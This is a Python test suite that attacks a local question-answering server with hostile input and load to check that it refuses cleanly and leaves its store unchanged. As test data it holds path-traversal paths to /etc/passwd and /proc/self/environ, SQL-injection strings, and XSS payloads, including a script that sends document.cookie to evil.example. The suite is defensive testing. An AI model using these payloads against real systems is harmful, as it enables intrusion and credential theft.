"""A real `otsqa serve` at its edges: hostile input on every route (long, binary and malformed
questions and bodies, oversized bodies, path traversal on every file-serving route, HTML and script
in questions and in articles), and 50 concurrent clients for 60 seconds. Every refusal is a clear
4xx with a message, and the store's files are byte for byte the same afterwards.

The articles: two seed articles and two hostile ones written at run time (a text file and an HTML
page with markup and script in their titles and bodies). Each client gets its own loopback address
(127.0.0.x), so the per-client rate limit applies to each as it would on a network."""

from __future__ import annotations

import json
import shutil
import socket
import sqlite3
import statistics
import threading
import time
from contextlib import contextmanager
from pathlib import Path
from random import Random
from typing import NamedTuple

import httpx
import pytest

from otsqa.settings import REPO_ROOT
from tests.conftest import CORPUS_FILES, make_settings
from tests.resilience.procs import Served, files_digest, otsqa_env, store_rows

pytestmark = pytest.mark.slow

RATE_LIMIT = 4  # questions per client per minute on this server
LOAD_CLIENTS = 50
LOAD_SECONDS = 60
DRILL = "Which fleets took part in the Caspian Shield naval drill?"
HOSTILE_TXT = """Caspian Shield <script>alert('title')</script> and the Turkic navies
By <img src=x onerror=alert('author')>

The Caspian Shield naval drill of May 2025 brought together the fleets of Azerbaijan, Kazakhstan and Turkmenistan
<script>alert('drill')</script> off the coast near Baku {{constructor.constructor('alert(2)')()}} ${alert(3)} `id`.
Observers said the joint command post <b onclick="alert(4)">worked well</b> and that the drill will be repeated in 2026.
"""
HOSTILE_HTML = """<!doctype html><html><head><title>Drones &lt;script&gt;alert(5)&lt;/script&gt; over the Caspian</title>
<script>document.location='http://evil.example/?c='+document.cookie</script><style>body{display:none}</style></head>
<body><article><h1>Drones &lt;script&gt;alert(5)&lt;/script&gt; over the Caspian</h1>
<p>The Turkic states agreed in June 2025 to share drone surveillance data along the Caspian coast, an official said,
writing the literal text &lt;script&gt;alert(6)&lt;/script&gt; in the communique by mistake.</p>
<script>alert('inline')</script><iframe src="http://evil.example/"></iframe>
<p onmouseover="alert(7)">The data sharing starts with Azerbaijan and Kazakhstan.</p></article></body></html>
"""
MARKUP = ("<script", "<img", "<b ", "<iframe")  # escaped, "onerror=" is harmless text: only a real tag could run it


class Site(NamedTuple):
    served: Served
    settings: object
    corpus: Path
    spare: Path  # a copy of the data dir for CLI runs (one process at a time on an embedded store)

    @property
    def url(self) -> str:
        return self.served.url


@pytest.fixture(scope="module")
def site(tmp_path_factory, corpus_dir, embedder):
    from ingest import ingest_paths

    root = tmp_path_factory.mktemp("edges")
    corpus = root / "articles"
    corpus.mkdir()
    for key in ("samedov", "gabala"):
        shutil.copy(corpus_dir / CORPUS_FILES[key], corpus / CORPUS_FILES[key])
    (corpus / "caspian-shield.txt").write_text(HOSTILE_TXT, encoding="utf-8")
    (corpus / "drones.html").write_text(HOSTILE_HTML, encoding="utf-8")
    settings = make_settings(root, corpus)
    report = ingest_paths(settings, embedder=embedder)
    assert report.failed == [] and len(report.added) == 4
    spare = root / "spare-data"
    shutil.copytree(settings.data_dir, spare)
    env = otsqa_env(settings.data_dir, corpus, rate_limit_per_minute=RATE_LIMIT)
    served = Served(env, root / "serve.log").start()
    try:
        site = Site(served, settings, corpus, spare)
        _settle(site)
        yield site
    finally:
        served.stop()


_addresses = iter(range(1, 250))


def client(site: Site, **kwargs) -> httpx.Client:
    """A client on a loopback address of its own (127.0.2.n): its own rate-limit budget."""
    address = f"127.0.2.{next(_addresses)}"
    return httpx.Client(base_url=site.url, transport=httpx.HTTPTransport(local_address=address), timeout=120, **kwargs)


def _settle(site: Site) -> None:
    """Chroma writes its vector index files back some time after a store is opened (it replays its log):
    wait until the files stop changing, so that any later change is one a request made."""
    for question in ("Where was the 12th OTS summit held?", DRILL):
        httpx.post(site.url + "/api/ask", json={"question": question}, timeout=120)
    last, steady_since, deadline = store_files(site), time.monotonic(), time.monotonic() + 90
    while time.monotonic() - steady_since < 5 and time.monotonic() < deadline:
        time.sleep(0.5)
        now = store_files(site)
        if now != last:
            last, steady_since = now, time.monotonic()


def store_files(site: Site) -> dict[str, str]:
    data = site.settings.data_dir
    return {"chroma": files_digest(data / "chroma"), "lexical": files_digest(data / "lexical")}


@contextmanager
def store_unchanged(site: Site):
    before = store_files(site)
    yield
    assert store_files(site) == before, "the store's files changed"
    assert site.served.process.poll() is None, site.served.log()


def raw_request(port: int, head: bytes, body: bytes = b"") -> tuple[int, bytes]:
    """Send bytes as they are (no client-side normalisation of paths or headers); (status, body)."""
    request_line, _, headers = head.partition(b"\r\n")
    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
        sock.sendall(request_line + b"\r\nConnection: close\r\n" + headers + body)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    if not data:
        return 0, b""  # closed without a reply
    status_line, _, rest = data.partition(b"\r\n")
    return int(status_line.split()[1]), rest.partition(b"\r\n\r\n")[2]


def assert_clear_error(reply: httpx.Response, status: int, fragment: str = "") -> None:
    assert reply.status_code == status, (reply.status_code, reply.text[:500])
    message = reply.json()["error"]
    assert fragment in message and "Traceback" not in message and len(message) < 1000, message


# -- hostile questions and bodies ------------------------------------------------------------------


@pytest.mark.parametrize(
    "body, fragment",
    [
        ({"question": "x" * 2001}, "limit is 2000"),
        ({"question": "Where? " * 30_000}, "limit is 2000"),
        ({"question": "a\u0000b"}, "control characters"),
        ({"question": "\u0007\u001b[31m red"}, "control characters"),
        (b'{"question": "\\ud800 broken"}', "broken encoding"),  # a lone surrogate, escaped as JSON allows
        ({"question": 12}, "question"),
        ({"question": None}, "question"),
        ({"question": ["a"]}, "question"),
        ({"question": {"$gt": ""}}, "question"),
        ({"question": "Why?", "history": [{"question": "x" * 2001, "answer": "a"}]}, "limit is 2000"),
        ({"question": "Why?", "history": [{"question": 1}]}, "history"),
        ({"question": "Why?", "history": [1, 2]}, "history"),
    ],
)
def test_hostile_questions_get_400_with_a_message(site, body, fragment):
    with store_unchanged(site), client(site) as http:
        for path in ("/api/ask", "/api/ask/stream"):
            if isinstance(body, bytes):
                reply = http.post(path, content=body, headers={"content-type": "application/json"})
            else:
                reply = http.post(path, json=body)
            assert_clear_error(reply, 400, fragment)


@pytest.mark.parametrize(
    "content, content_type",
    [
        (b'{"question": ', "application/json"),  # cut short
        (b'{"question": "\xff\xfe\xfd"}', "application/json"),  # not UTF-8
        (b"\x00\x01\x02\x03" * 64, "application/json"),  # binary
        (b"[1, 2, 3]", "application/json"),
        (b'"just a string"', "application/json"),
        (b"", "application/json"),
        (b"question=Where+was+the+summit", "application/x-www-form-urlencoded"),
        (b'{"question": "Where?"}', "text/plain"),
        (b'{"question": "a", "question": {"nested": [[[[[[[[[[]]]]]]]]]]}}', "application/json"),
        (b"[" * 100_000, "application/json"),  # deep nesting within the size limit
    ],
)
def test_malformed_bodies_get_400_with_a_message(site, content, content_type):
    with store_unchanged(site), client(site) as http:
        for path in ("/api/ask", "/api/ask/stream", "/api/feedback"):
            reply = http.post(path, content=content, headers={"content-type": content_type})
            assert_clear_error(reply, 400)


def test_huge_bodies_get_413_declared_streamed_or_lied_about(site):
    big = json.dumps({"question": "hi", "history": [{"question": "q", "answer": "a" * 400_000}]}).encode()
    with store_unchanged(site), client(site) as http:
        for path in ("/api/ask", "/api/ask/stream", "/api/feedback"):
            assert_clear_error(http.post(path, content=big, headers={"content-type": "application/json"}), 413, "KiB")

        def chunks():  # no Content-Length: the server must count as it reads
            for start in range(0, len(big), 65_536):
                yield big[start : start + 65_536]

        assert_clear_error(http.post("/api/ask", content=chunks(), headers={"content-type": "application/json"}), 413, "KiB")
        # The chat's own (Gradio) routes are capped too.
        chat = {"data": ["x" * 400_000, None], "fn_index": 0, "session_hash": "abc"}
        assert_clear_error(http.post("/gradio_api/queue/join", json=chat), 413, "KiB")
    # A declared length far beyond what is sent: refused on the header, without waiting for the body.
    status, body = raw_request(
        site.served.port,
        b"POST /api/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 10000000000\r\n\r\n",
        b'{"question": "hi"}',
    )
    assert status == 413 and b"KiB" in body
    # Nonsense lengths are the HTTP server's to refuse (400), before the app.
    for length in (b"-5", b"12abc", b"1, 2"):
        status, _ = raw_request(
            site.served.port, b"POST /api/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: " + length + b"\r\n\r\n", b"{}"
        )
        assert status == 400
    assert httpx.get(site.url + "/api/health", timeout=60).json()["ready"] is True


def test_clients_that_hang_up_mid_stream_do_not_keep_the_answer_slot(site):
    with store_unchanged(site):
        for _ in range(5):
            with client(site) as http, http.stream("POST", "/api/ask/stream", json={"question": DRILL}) as reply:
                assert reply.status_code == 200
                next(reply.iter_bytes())  # the first event, then hang up
        with client(site) as http:
            assert http.post("/api/ask", json={"question": DRILL}, timeout=60).status_code == 200


def test_hostile_feedback_gets_4xx_with_a_message(site):
    with store_unchanged(site), client(site) as http:
        answer_id = http.post("/api/ask", json={"question": DRILL}).headers["x-answer-id"]
        assert_clear_error(http.post("/api/feedback", json={"answer_id": "' OR 1=1 --", "rating": "up"}), 404, "ask again")
        injected = {"answer_id": answer_id, "rating": "up'; DROP TABLE feedback;--"}
        assert_clear_error(http.post("/api/feedback", json=injected), 400)
        too_long = {"answer_id": answer_id, "rating": "down", "comment": "x" * 2001}
        assert_clear_error(http.post("/api/feedback", json=too_long), 400, "limit is 2000")
        hostile = {"answer_id": answer_id, "rating": "down", "comment": "<script>alert(1)</script> \u202e\U0001f600 '; DROP"}
        assert http.post("/api/feedback", json=hostile).json() == {"status": "recorded"}
    db = sqlite3.connect(site.settings.data_dir / "feedback.sqlite3")
    try:
        (comment,) = db.execute("SELECT comment FROM feedback WHERE answer_id = ?", (answer_id,)).fetchone()
    finally:
        db.close()
    assert comment == hostile["comment"]  # kept as given (it is data), and the table is still there


# -- file-serving routes ---------------------------------------------------------------------------

SECRET_MARKERS = (b"root:x:0:0", b"SQLite format 3", b"[project]", b"OTSQA_")


def traversal_targets(site: Site) -> list[str]:
    ours = [
        str(site.settings.data_dir / "feedback.sqlite3"),
        str(site.settings.data_dir / "chroma" / "chroma.sqlite3"),
        str(REPO_ROOT / "pyproject.toml"),
        str(site.corpus / CORPUS_FILES["gabala"]),
    ]
    targets = [
        "/../../../../../../etc/passwd",
        "/widget.js/../../../../../../etc/passwd",
        "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/widget.js%2f..%2f..%2f..%2fetc%2fpasswd",
        "/api/../../../../etc/passwd",
        "/assets/../../../../../../etc/passwd",
        "/assets/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/../../../../../../etc/passwd",
        "/gradio_api/static/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file=../../../../../../etc/passwd",
        "/gradio_api/file=%2fetc%2fpasswd",
        "/gradio_api/file=pyproject.toml",
        "/file=/etc/passwd",
        "/favicon.ico/../../../../etc/passwd",
        "/%00/etc/passwd",
        "/%ff%fe/..%c0%af..%c0%afetc/passwd",
        "/gradio_api/file=/proc/self/environ",
    ]
    for path in ours:
        targets += [f"/gradio_api/file={path}", f"/file={path}", f"/gradio_api/file=..{path}"]
    return targets


def test_path_traversal_on_every_file_route_is_refused(site):
    served = site.served
    with store_unchanged(site):
        for target in traversal_targets(site):
            status, body = raw_request(served.port, f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
            assert status in (400, 403, 404, 405), (target, status, body[:200])
            assert not any(marker in body for marker in SECRET_MARKERS), (target, body[:300])
    # Gradio's upload route would take a file of any size from anyone and serve it back: it is closed.
    with client(site) as http:
        for path in ("/gradio_api/upload", "/upload", "/gradio_api/upload/"):
            upload = http.post(path, files={"files": ("evil.html", b"<script>alert(1)</script>" * 1000, "text/html")})
            assert_clear_error(upload, 404, "no file uploads")
    uploaded = site.settings.data_dir / "cache" / "gradio"
    assert not uploaded.exists() or not any(p.name == "evil.html" for p in uploaded.rglob("*"))
    # The routes still serve what they should.
    assert httpx.get(site.url + "/widget.js", timeout=60).status_code == 200
    assert httpx.get(site.url + "/", timeout=60).status_code == 200


# -- HTML and script in articles and questions -----------------------------------------------------


def test_markup_in_articles_and_questions_comes_back_as_text_and_is_escaped_in_the_chat(site):
    from web.render import answer_as_text, render_transcript

    question = "<script>alert('q')</script><img src=x onerror=alert(1)> " + DRILL
    with store_unchanged(site), client(site) as http:
        reply = http.post("/api/ask", json={"question": question})
        assert reply.status_code == 200, reply.text
        answer = reply.json()
        assert reply.headers["content-type"].startswith("application/json")  # data, never a page
        assert answer["question"] == " ".join(question.split())
        passages = " ".join(p["text"] for p in answer["passages"])
        assert "<script>alert('drill')</script>" in passages  # the article's words, kept as words
        assert "<script>alert(6)</script>" in passages  # HTML entities in a page are its text
        assert "document.location" not in passages and "alert('inline')" not in passages  # a page's scripts are not text
        assert "display:none" not in passages
        stream = http.post("/api/ask/stream", json={"question": question})
        assert stream.status_code == 200 and stream.headers["content-type"].startswith("text/event-stream")

    html = render_transcript([{"question": question, "answer": answer, "id": "x"}])
    for marker in MARKUP:
        assert marker not in html, marker
    assert "&lt;script&gt;alert(&#x27;q&#x27;)&lt;/script&gt;" in html
    if any("<script>" in c["passage"] for c in answer["citations"]):
        assert "&lt;script&gt;alert(" in html.split("ots-sources", 1)[1]  # the article's markup, shown as text
    text = answer_as_text(answer)
    assert text.startswith(answer["answer"])  # plain text for scripts: nothing to render

    from gradio_client import Client

    chat = Client(site.url, verbose=False).predict(question, api_name="/chat")
    assert chat.splitlines()[0] == answer["answer"]
    # A refused question is said to the script, and is not a traceback in the server's log.
    with pytest.raises(Exception, match="The question is empty"):
        Client(site.url, verbose=False).predict("   ", api_name="/chat")
    assert "Traceback" not in site.served.log()


def test_widget_and_chat_scripts_never_build_html_from_text():
    static = REPO_ROOT / "web" / "static"
    for name in ("widget.js", "chat.js"):
        source = (static / name).read_text(encoding="utf-8")
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
            assert sink not in source, f"{name} uses {sink}"


# -- the CLI ---------------------------------------------------------------------------------------


def _otsqa(site: Site, *args, timeout: float = 600, stdin: bytes | None = None):
    import subprocess
    import sys

    env = otsqa_env(site.spare, site.corpus)
    return subprocess.run([sys.executable, "-m", "cli", *args], env=env, capture_output=True, timeout=timeout, input=stdin)


def test_cli_refuses_hostile_questions_with_a_message_and_exit_2(site):
    before = store_rows(site.spare)
    for args, fragment in [
        ([b"caf\xe9 \xff\xfe where?"], b"broken encoding"),
        (["a\x01b\x1b[2J"], b"control characters"),
        (["   "], b"empty"),
        (["Where?", "--config", "../../../etc/passwd"], b"Unknown configuration"),
    ]:
        done = _otsqa(site, "ask", *args)
        assert done.returncode == 2, (args, done.stderr[-500:])
        assert fragment in done.stderr and b"Traceback" not in done.stderr and done.stdout == b""
    missing = _otsqa(site, "ask", "--batch", str(site.spare / "no-such-file.jsonl"))
    assert missing.returncode == 1 and b"Cannot read the batch file" in missing.stderr
    assert b"Traceback" not in missing.stderr
    assert store_rows(site.spare) == before


def test_cli_answers_markup_as_text_and_reports_each_bad_batch_line(site, tmp_path):
    before = store_rows(site.spare)
    question = "<script>alert(1)</script> " + DRILL
    single = _otsqa(site, "ask", question)
    assert single.returncode == 0, single.stderr[-2000:]
    assert b"Traceback" not in single.stderr and b"Sources:" in single.stdout

    batch = tmp_path / "hostile.jsonl"
    lines = [
        json.dumps({"id": "ok", "question": question}).encode(),
        b"\xff\xfe\x00\x01 binary garbage \x00",
        b"{broken",
        b"[1, 2]",
        json.dumps({"id": "num", "question": 12}).encode(),
        json.dumps({"id": "nul", "question": "a\u0000b"}).encode(),
        json.dumps({"id": "long", "question": "x" * 5000}).encode(),
        json.dumps({"id": "hist", "question": "Why?", "history": "not a list"}).encode(),
    ]
    batch.write_bytes(b"\n".join(lines) + b"\n")
    done = _otsqa(site, "ask", "--batch", str(batch), "--json")
    assert done.returncode == 1 and b"Traceback" not in done.stderr, done.stderr[-2000:]
    results = [json.loads(line) for line in done.stdout.decode("utf-8").splitlines()]
    assert len(results) == len(lines)
    assert results[0]["id"] == "ok" and "error" not in results[0] and results[0]["question"].startswith("<script>")
    for number, result in enumerate(results[1:], 2):
        assert result["line"] == number and result["error"], result
    assert "control characters" in results[5]["error"] and "limit is 2000" in results[6]["error"]
    assert "not UTF-8" in results[1]["error"] and "must be text, not int" in results[4]["error"]
    # From stdin, the same lines get the same answers and the same errors.
    piped = _otsqa(site, "ask", "--batch", "-", "--json", stdin=batch.read_bytes())
    assert piped.returncode == 1 and b"Traceback" not in piped.stderr
    assert [r.get("error") for r in map(json.loads, piped.stdout.decode("utf-8").splitlines())] == [
        r.get("error") for r in results
    ]
    assert store_rows(site.spare) == before


def test_cli_output_into_a_closed_pipe_stops_quietly(site):
    import subprocess
    import sys

    # `otsqa ask … | head -c 0`: the reader is gone before the answer is written.
    for args in (["ask", DRILL], ["ask", DRILL, "--json"]):
        process = subprocess.Popen(
            [sys.executable, "-m", "cli", *args],
            env=otsqa_env(site.spare, site.corpus),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        process.stdout.close()
        error = process.stderr.read()
        assert process.wait(timeout=600) == 141, error[-2000:]
        assert b"Traceback" not in error and b"Exception ignored" not in error, error[-2000:]


# -- load ------------------------------------------------------------------------------------------


class Call(NamedTuple):
    kind: str
    status: int  # 0: no reply (an exception)
    seconds: float
    detail: str = ""


def _questions() -> list[str]:
    path = REPO_ROOT / "evals" / "data" / "qa.jsonl"
    items = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
    return [i["question"] for i in items if not i.get("history")][:40]


def _answer_id_from_stream(text: str) -> str | None:
    for block in text.strip().split("\n\n"):
        fields = dict(line.split(": ", 1) for line in block.splitlines() if ": " in line)
        if fields.get("event") == "done":
            return json.loads(fields["data"])["answer_id"]
    return None


def test_fifty_clients_for_a_minute(site):
    questions = _questions()
    served = site.served
    calls: list[Call] = []
    given: dict[str, tuple[str, str]] = {}  # answer_id → (rating, comment) the server said it recorded
    lock = threading.Lock()

    def timed(kind, send, *args, **kwargs) -> httpx.Response | None:
        started = time.monotonic()
        try:
            reply = send(*args, **kwargs)
        except httpx.HTTPError as exc:
            with lock:
                calls.append(Call(kind, 0, time.monotonic() - started, f"{type(exc).__name__}: {exc}"))
            return None
        detail = ""
        if reply.status_code == 429:
            body = reply.json()
            detail = "ok" if "Retry-After" in reply.headers and "limit is" in body.get("error", "") else "bad 429"
        elif reply.status_code != 200:
            detail = reply.text[:300]
        with lock:
            calls.append(Call(kind, reply.status_code, time.monotonic() - started, detail))
        return reply

    def visitor(number: int, deadline: float, warm_up: bool = False) -> None:
        rng = Random(number)
        address = f"127.0.{1 if warm_up else 0}.{10 + number}"
        with httpx.Client(base_url=site.url, transport=httpx.HTTPTransport(local_address=address), timeout=180) as http:
            asked = 0
            while time.monotonic() < deadline:
                roll = rng.random()
                if roll < 0.6 or warm_up:
                    question = rng.choice(questions)
                    stream = rng.random() < 0.3
                    kind = "ask/stream" if stream else "ask"
                    reply = timed(kind, http.post, f"/api/{kind}", json={"question": question})
                    if reply is not None and reply.status_code == 200:
                        answer_id = _answer_id_from_stream(reply.text) if stream else reply.headers.get("x-answer-id")
                        asked += 1
                        rating, comment = rng.choice(["up", "down"]), f"visitor {address} answer {asked}"
                        body = {"answer_id": answer_id, "rating": rating, "comment": comment}
                        fed = timed("feedback", http.post, "/api/feedback", json=body)
                        if fed is not None and fed.status_code == 200 and fed.json() == {"status": "recorded"}:
                            with lock:
                                given[answer_id] = (rating, comment)
                    if warm_up:
                        return
                elif roll < 0.8:
                    timed("health", http.get, "/api/health")
                elif roll < 0.9:
                    timed("widget.js", http.get, "/widget.js")
                else:
                    timed("page", http.get, "/")
                time.sleep(rng.uniform(0.2, 1.0))

    def run(count: int, seconds: float, warm_up: bool = False) -> float:
        deadline = time.monotonic() + seconds
        threads = [threading.Thread(target=visitor, args=(i, deadline, warm_up)) for i in range(count)]
        started = time.monotonic()
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=seconds + 300)
        assert not any(t.is_alive() for t in threads), "a client hung"
        return time.monotonic() - started

    # Warm-up: one question from each of 50 other addresses at once (grows the thread pools), then measure.
    run(LOAD_CLIENTS, 300, warm_up=True)
    warm = [c for c in calls if c.kind == "ask" or c.kind == "ask/stream"]
    assert all(c.status == 200 for c in warm), [c for c in warm if c.status != 200][:5]
    warm_feedback = len(given)
    calls.clear()
    rss_start = served.rss_kib()
    samples = []
    sampling = threading.Event()

    def sample() -> None:
        while not sampling.wait(1.0):
            samples.append(served.rss_kib())

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    elapsed = run(LOAD_CLIENTS, LOAD_SECONDS)
    sampling.set()
    sampler.join()
    rss_end = served.rss_kib()

    db = sqlite3.connect(site.settings.data_dir / "feedback.sqlite3")
    try:
        stored = {a: (r, c) for a, r, c in db.execute("SELECT answer_id, rating, comment FROM feedback")}
    finally:
        db.close()

    answered = [c for c in calls if c.kind in ("ask", "ask/stream") and c.status == 200]
    latencies = sorted(c.seconds for c in answered)
    counts: dict[str, dict[str, int]] = {}
    for c in calls:
        counts.setdefault(c.kind, {}).setdefault(str(c.status), 0)
        counts[c.kind][str(c.status)] += 1
    figures = {
        "clients": LOAD_CLIENTS,
        "seconds": round(elapsed, 1),
        "rate_limit_per_minute": RATE_LIMIT,
        "requests": len(calls),
        "requests_per_second": round(len(calls) / elapsed, 1),
        "status_counts": counts,
        "answers": len(answered),
        "answer_latency_s": {
            "p50": round(statistics.median(latencies), 3) if latencies else None,
            "p95": round(latencies[int(0.95 * (len(latencies) - 1))], 3) if latencies else None,
            "max": round(latencies[-1], 3) if latencies else None,
        },
        "feedback_recorded": len(given),  # warm-up's included
        "feedback_found": sum(stored.get(a) == v for a, v in given.items()),
        "rss_mib": {
            "after_warm_up": round(rss_start / 1024, 1),
            "end": round(rss_end / 1024, 1),
            "max": round(max(samples + [rss_end]) / 1024, 1),
        },
    }
    out = REPO_ROOT / "test-artifacts"
    out.mkdir(exist_ok=True)
    (out / "load.json").write_text(json.dumps(figures, indent=2) + "\n", encoding="utf-8")
    print(json.dumps(figures, indent=2))

    failures = [c for c in calls if c.status not in (200, 429) or (c.status == 429 and c.detail != "ok")]
    assert not failures, (failures[:10], figures)
    assert all(c.kind in ("ask", "ask/stream") for c in calls if c.status == 429), "only questions are rate limited"
    assert answered and len(given) == warm_feedback + len(answered), figures
    assert figures["feedback_found"] == len(given), "feedback records were lost"
    assert rss_end <= rss_start + 150 * 1024, f"memory grew under load: {figures['rss_mib']}"
    assert served.process.poll() is None


# -- last: changes the store -----------------------------------------------------------------------


def test_an_ingest_while_the_server_runs_is_answered_from_without_a_restart(site):
    """`otsqa ingest` in another process adds an article and revises one while the server runs. The server
    sees the ingest's stamp and opens the store again: within seconds the new article is answered from
    and the revised one is quoted from its new text (at the new offsets), with no 500 on the way."""
    import subprocess
    import sys

    from store.chroma import open_store

    question = "Where did the Turkic Coast Guard Forum meet in November 2025?"
    with client(site) as http:
        before = http.post("/api/ask", json={"question": question})
        assert before.status_code == 200 and all(_file(c) != "late.txt" for c in before.json()["citations"])

    (site.corpus / "late.txt").write_text(
        "Late news on the Caspian\n\nThe Turkic Coast Guard Forum met in Aktau in November 2025 and agreed on "
        "joint patrols of the northern Caspian Sea by the coast guards of Kazakhstan and Azerbaijan.\n",
        encoding="utf-8",
    )
    drill = site.corpus / "caspian-shield.txt"
    revised = "This report was revised in December 2026. The Caspian Shield naval drill of April 2025"
    text = drill.read_text(encoding="utf-8")
    drill.write_text(text.replace("The Caspian Shield naval drill of May 2025", revised), encoding="utf-8")
    env = otsqa_env(site.settings.data_dir, site.corpus)
    done = subprocess.run([sys.executable, "-m", "cli", "ingest", "--json"], env=env, capture_output=True, timeout=600)
    report = json.loads(done.stdout)
    assert done.returncode == 0 and (report["added"], report["updated"]) == (1, 1), done.stderr[-2000:]

    deadline = time.monotonic() + 60
    while True:
        with client(site) as http:  # a client (address) per try: each has 4 questions a minute
            late = http.post("/api/ask", json={"question": question})
        assert late.status_code in (200, 503), late.text  # never a 500
        answer = late.json()
        if late.status_code == 200 and any(_file(c) == "late.txt" for c in answer["citations"]):
            break
        assert time.monotonic() < deadline, f"the new article is still not answered from: {answer}\n{site.served.log()}"
        time.sleep(1)
    assert "Aktau" in answer["answer"] and not answer["abstained"]
    with client(site) as http:
        drilled = http.post("/api/ask", json={"question": DRILL})
        assert drilled.status_code == 200, drilled.text
        assert http.post("/api/ask", json={"question": "Where was the 12th OTS summit held?"}).status_code == 200

    store = open_store(site.settings)  # this process's own view of the store the server answers from
    quoted = [c for c in drilled.json()["citations"] if _file(c) == "caspian-shield.txt"]
    assert quoted and "April 2025" in drilled.json()["answer"], drilled.json()["answer"]
    for citation in quoted + [c for c in answer["citations"] if _file(c) == "late.txt"]:
        text = store.article(citation["doc_id"]).text
        assert text[citation["start"] : citation["end"]] == citation["quote"]  # offsets in the new text
    assert site.served.process.poll() is None


def _file(citation: dict) -> str:
    return Path(citation["source"]).name
